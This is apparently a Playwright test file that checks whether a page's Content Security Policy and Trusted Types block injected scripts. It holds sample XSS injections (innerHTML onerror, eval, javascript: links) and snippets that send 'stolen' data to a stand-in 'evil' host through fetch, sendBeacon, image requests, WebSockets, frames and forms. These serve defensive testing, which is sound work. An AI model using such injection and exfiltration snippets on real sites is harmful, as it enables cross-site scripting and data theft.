import { expect, test } from '../test.ts';
import { evil, expectUntouched, hearViolations } from './attack.ts';

/** What a script that got in by another way might try next. Each runs in the page. */
const attempts: Record<string, [directive: string, attempt: (evil: string) => unknown]> = {
  'a script element': [
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.append('hacked = 1');
      document.body.append(script);
    },
  ],
  'a script element from another host': [
    'require-trusted-types-for',
    (evil) => {
      const script = document.createElement('script');
      script.src = `${evil}/a.js`;
      document.body.append(script);
    },
  ],
  'the text of a script element': [
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.text = 'hacked = 1';
      document.body.append(script);
    },
  ],
  'HTML as text': [
    'require-trusted-types-for',
    () => {
      document.body.innerHTML += '<img src="" onerror="hacked = 1" alt="">';
    },
  ],
  'HTML beside an element': [
    'require-trusted-types-for',
    () => document.body.insertAdjacentHTML('beforeend', '<img src="" onerror="hacked = 1" alt="">'),
  ],
  'an event handler': [
    'require-trusted-types-for',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'hacked = 1');
      document.body.append(button);
      button.click();
    },
  ],
  // biome-ignore lint/security/noGlobalEval: the test is that it does not run.
  eval: ['require-trusted-types-for', () => window.eval('hacked = 1')],
  'a function from text': ['require-trusted-types-for', () => new Function('hacked = 1')()],
  'a timer with text': ['require-trusted-types-for', () => setTimeout('hacked = 1')],
  'a policy for trusted types': [
    'trusted-types',
    () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void };
      };
      trustedTypes.createPolicy('default', { createHTML: (html: string) => html });
    },
  ],
  'a link that is a script': [
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:void (window.hacked = 1)';
      document.body.append(link);
      link.click();
    },
  ],
  'a style element': [
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    },
  ],
  'a style attribute': [
    'style-src-attr',
    () => document.body.setAttribute('style', 'display: none'),
  ],
  'a picture from another host': [
    'img-src',
    (evil) => {
      new Image().src = `${evil}/?stolen`;
    },
  ],
  'a message to another host': ['connect-src', (evil) => fetch(`${evil}/?stolen`)],
  'a beacon to another host': ['connect-src', (evil) => navigator.sendBeacon(evil, 'stolen')],
  'a socket to another host': [
    'connect-src',
    (evil) => new WebSocket(evil.replace('https', 'wss')),
  ],
  'a frame from another host': [
    'frame-src',
    (evil) => {
      const frame = document.createElement('iframe');
      frame.src = evil;
      document.body.append(frame);
    },
  ],
  'a worker': ['require-trusted-types-for', () => new Worker('/worker.js')],
  'a form to another host': [
    'form-action',
    (evil) => {
      const form = document.createElement('form');
      form.action = evil;
      // Playwright would wait for a page that leads on from here.
      form.target = '_blank';
      document.body.append(form);
      form.submit();
    },
  ],
};

for (const [what, [directive, attempt]] of Object.entries(attempts)) {
  test(`a script cannot get in ${what}`, async ({ page, otherHosts, silence }) => {
    const violations = await hearViolations(page);
    await page.addInitScript(`window.attempt = ${attempt}`);
    await page.goto('/');
    // In a task of its own: to what a test itself evaluates, the browser allows more.
    await page.evaluate((evil) => {
      const { attempt } = window as unknown as { attempt: (evil: string) => void };
      setTimeout(attempt, 0, evil);
    }, evil);
    await expect.poll(() => violations).toContain(directive);
    await expectUntouched(page, otherHosts);
    silence.splice(0);
  });
}
